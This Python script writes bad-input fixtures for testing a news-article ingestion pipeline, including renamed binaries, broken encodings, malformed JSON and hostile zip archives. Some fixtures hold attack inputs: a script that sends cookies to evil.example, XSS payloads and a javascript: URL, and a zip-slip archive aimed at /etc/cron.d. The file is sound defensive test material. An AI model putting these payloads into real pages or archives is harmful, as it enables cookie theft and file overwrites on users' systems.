"""Writes the small bad-input fixtures in this folder (run once; the outputs are committed).
Big ones (a 50 MB file, zip bombs, over-long articles) are made at test time in tmp_path,
see tests/ingest/test_bad_inputs.py."""

import io
import json
import zipfile
from pathlib import Path

HERE = Path(__file__).parent
ARTICLE = (
    "Rescue teams pulled 14 survivors from the collapsed building in the city centre on Tuesday, "
    "the regional governor said. Officials said the search would continue through the night."
)
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360"
    "00000000050001a5f645400000000049454e44ae426082"
)


def write(name, data):
    (HERE / name).write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))


def zip_bytes(members, flag_encrypted=False):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name), data)
    data = bytearray(buf.getvalue())
    if flag_encrypted:  # set bit 0 (encrypted) in every local and central header
        for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            start = 0
            while (at := data.find(sig, start)) != -1:
                data[at + offset] |= 0x1
                start = at + 4
    return bytes(data)


def main():
    write("empty.txt", b"")
    write("blank-lines-only.txt", b"  \n\n\t \r\n")
    write("png-renamed.txt", PNG)
    write(
        "pdf-renamed.html", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    )
    write(
        "jpeg-renamed.json", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    )
    write("zip-renamed.txt", zip_bytes([("a.txt", ARTICLE)]))
    write("gzip-renamed.jsonl", bytes.fromhex("1f8b08000000000000034b4c4a06000000ffff"))
    write("elf-program.txt", b"\x7fELF\x02\x01\x01\x00" + bytes(56))
    write("nul-bytes.txt", b"abc\x00\x01\x02def\x00" * 20)
    write(
        "control-characters.txt", ("\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f" * 30).encode("ascii")
    )
    write(
        "broken-utf8.txt",
        ARTICLE.replace("governor", "gouverneur–").encode("utf-8")[:120]
        + b"\xff\xfe"
        + ARTICLE.encode("utf-8")[120:],
    )
    write("utf16-odd-length.txt", b"\xff\xfe" + "Hello world".encode("utf-16-le") + b"\x00")
    write(
        "windows-1252.txt",
        (
            "\u201cWe will rebuild,\u201d the mayor said on Tuesday \u2013 a promise repeated "
            "by officials across the region after the floods destroyed the caf\u00e9s, "
            "shops and homes along the river."
        ).encode("cp1252"),
    )
    write(
        "utf16-with-bom.txt", "\ufeff".encode("utf-16-le").join([b"", ARTICLE.encode("utf-16-le")])
    )
    write(
        "utf8-with-bom.txt",
        b"\xef\xbb\xbf"
        + (
            b"Firefighters contained the blaze near the port by "
            b"Wednesday morning, the fire service said."
        ),
    )
    write(
        "russian-cp1251.txt",
        (
            "Спасатели извлекли из-под завалов 14 человек во вторник, сообщил губернатор "
            "области. По словам чиновников, поиски продолжатся всю ночь."
        ).encode("cp1251"),
    )
    write(
        "german.txt",
        "Die Rettungskräfte haben am Dienstag 14 Überlebende aus dem eingestürzten Gebäude "
        "in der Innenstadt geborgen, sagte der Gouverneur der Region.",
    )
    write(
        "scripts-and-iframes.html",
        """<!doctype html><html><head><title>Quake &lt;b&gt;live&lt;/b&gt;</title>
<script>alert('head script')</script></head><body>
<iframe src="https://ads.example/track"></iframe>
<article><h1>Quake survivors found</h1>
<p>Rescue teams pulled 14 survivors from the collapsed building in the city centre on Tuesday, the regional
governor said, adding that more than 200 people were still missing after the earthquake.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<p>Officials said the search would continue through the night with the help of teams from three
neighbouring countries, and that the airport would reopen on Thursday.<img src=x onerror="alert(1)"></p>
</article></body></html>""",
    )
    write(
        "only-scripts-and-iframes.html",
        "<html><head><script>alert(1)</script></head><body>"
        "<iframe src='https://evil.example'></iframe><script>x()</script></body></html>",
    )
    write(
        "malformed-lines.jsonl",
        "\n".join(
            [
                json.dumps({"id": "good-1", "outlet": "Wire", "text": ARTICLE}),
                '{"id": "broken", "text": "no closing brace"',
                '["a", "list", "not", "an", "object"]',
                json.dumps({"id": "no-text", "outlet": "Wire"}),
                json.dumps({"id": "number-text", "text": 42}),
                json.dumps({"id": "empty-text", "text": "   "}),
                "",
                "not json at all",
            ]
        )
        + "\n",
    )
    write("truncated.json", '{"id": "cut", "text": "Rescue teams pulled 14 survivors')
    write("deeply-nested.json", "[" * 100000)
    write("empty-list.json", "[]")
    write("number.json", "42")
    write(
        "html-field-without-text.jsonl",
        json.dumps({"id": "h1", "html": "<script>alert(1)</script>"}) + "\n",
    )
    write(
        "javascript-url.jsonl",
        json.dumps(
            {
                "id": "js",
                "url": "javascript:alert(document.cookie)",
                "text": "Parliament approved the budget on Friday by 301 votes to 150, "
                "the speaker announced after a long night session.",
            }
        )
        + "\n",
    )
    write(
        "unreadable-date.jsonl",
        json.dumps(
            {
                "id": "when",
                "published": "the day before yesterday-ish??",
                "text": "The central bank held its key rate at 4.5 percent on Thursday, "
                "as most economists had expected.",
            }
        )
        + "\n",
    )
    write(
        "duplicate-ids.jsonl",
        "\n".join(
            [
                json.dumps(
                    {
                        "id": "same",
                        "text": "The bridge reopened to traffic on Monday after two years of repairs.",
                    }
                ),
                json.dumps(
                    {
                        "id": "same",
                        "text": "A different story: the harbour closed for the storm on Sunday night.",
                    }
                ),
            ]
        )
        + "\n",
    )
    write("duplicate-a.txt", ARTICLE)
    write("duplicate-b.txt", "  " + ARTICLE.upper().replace(". ", ".\n\n  ") + "\n")
    write("report.docx", b"PK\x03\x04" + bytes(30))
    write("no-extension", b"no extension")
    write(
        "zip-slip.zip",
        zip_bytes(
            [
                ("../../etc/cron.d/evil.txt", ARTICLE),
                ("/abs/path.txt", ARTICLE),
                ("..\\windows.txt", ARTICLE),
                ("safe/ok.txt", ARTICLE),
            ]
        ),
    )
    write(
        "nested-archive.zip",
        zip_bytes(
            [
                ("inner.zip", zip_bytes([("a.txt", ARTICLE)])),
                ("disguised.txt", zip_bytes([("b.txt", ARTICLE)])),
            ]
        ),
    )
    write("not-a-zip.zip", ARTICLE)
    write("truncated.zip", zip_bytes([("a.txt", ARTICLE * 20), ("b.txt", ARTICLE)])[:200])
    write("empty.zip", b"PK\x05\x06" + bytes(18))
    write("encrypted.zip", zip_bytes([("secret.txt", ARTICLE)], flag_encrypted=True))
    write(
        "macos-metadata.zip",
        zip_bytes([("story/a.txt", ARTICLE), ("__MACOSX/story/._a.txt", b"\x00\x05\x16\x07")]),
    )
    write(
        "folder-with-articles-jsonl.zip",
        zip_bytes(
            [
                ("export/articles.jsonl", json.dumps({"id": "x1", "text": ARTICLE}) + "\n"),
                ("export/x1.txt", ARTICLE),
            ]
        ),
    )
    write(
        "bad-members.zip",
        zip_bytes(
            [
                ("pic.txt", PNG),
                ("empty.txt", b""),
                ("notes.docx", b"x"),
                ("good.txt", "Water levels fell on Friday for the first time in a week."),
            ]
        ),
    )
    write(
        "six-members.zip",
        zip_bytes(
            [(f"m{i}.txt", f"Member {i} says something about the floods.") for i in range(6)]
        ),
    )


if __name__ == "__main__":
    main()
